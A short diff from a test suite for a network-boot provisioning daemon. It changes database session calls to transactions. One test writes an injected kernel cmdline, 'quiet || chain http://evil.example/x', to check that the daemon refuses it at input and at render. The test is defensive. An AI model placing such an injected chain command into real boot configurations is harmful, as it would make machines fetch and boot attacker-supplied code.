@@ -143,7 +143,7 @@ def _api_token(d: LabDaemon) -> str:
     from provisiond.model import User
 
     db = Database(f"sqlite:///{next((d.workdir / 'state').glob('*.db'))}")
-    with db.session() as s:
+    with db.transaction() as s:
         admin = s.scalars(select(User).where(User.name == "admin")).one()
         _tok, secret = users.create_token(s, admin, "wire-test", "test")
     db.dispose()
@@ -186,7 +186,7 @@ def test_ipxe_injection_refused_at_input_and_at_render(wire):
     from provisiond.model import Kernel
 
     db = Database(f"sqlite:///{next((d.workdir / 'state').glob('*.db'))}")
-    with db.session() as s:
+    with db.transaction() as s:
         from sqlalchemy import update
 
         s.execute(update(Kernel).values(cmdline="quiet || chain http://evil.example/x"))
